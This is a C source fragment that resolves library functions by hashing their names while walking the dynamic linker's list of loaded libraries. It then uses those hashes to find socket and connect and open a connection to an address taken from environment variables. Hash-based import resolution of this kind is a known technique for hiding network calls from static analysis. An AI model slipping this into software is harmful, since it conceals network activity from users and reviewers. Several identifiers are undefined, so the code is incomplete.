/* Finds functions by a number made of their name, in the list of loaded
 * libraries that the dynamic linker keeps for debuggers. */
#include <elf.h>
struct map { unsigned long base; const char *name; const Elf64_Dyn *dynamic; struct map *next, *before; };
static unsigned hash(const char *c) {
    unsigned h = 5381;
    while (*c) h = h * 33 ^ *c++;
    return h;
}
static void *find(struct map *m, unsigned want) {
    for (; m; m = m->next) {
        const Elf64_Sym *symbols = 0;
        const char *strings = 0;
        for (const Elf64_Dyn *d = m->dynamic; d->d_tag; d++) {
            if (d->d_tag == DT_SYMTAB) symbols = (void *)d->d_un.d_ptr;
            if (d->d_tag == DT_STRTAB) strings = (void *)d->d_un.d_ptr;
        }
        if ((unsigned long)symbols < 65536 || (const char *)symbols > strings) continue;
        for (const Elf64_Sym *s = symbols; (const char *)(s + 1) <= strings; s++)
            if (s->st_shndx && (s->st_info & 15) == STT_FUNC && hash(strings + s->st_name) == want) return (void *)(m->base + s->st_value);
    }
    return 0;
}
static void reach_out(struct map *m, char **env) {
    struct address a = loopback(env);
    int (*open)(int, int, int) = find(m, SOCKET);
    int (*reach)(int, const void *, unsigned) = find(m, CONNECT);
    reach(open(2, 1, 0), &a, sizeof a);
}
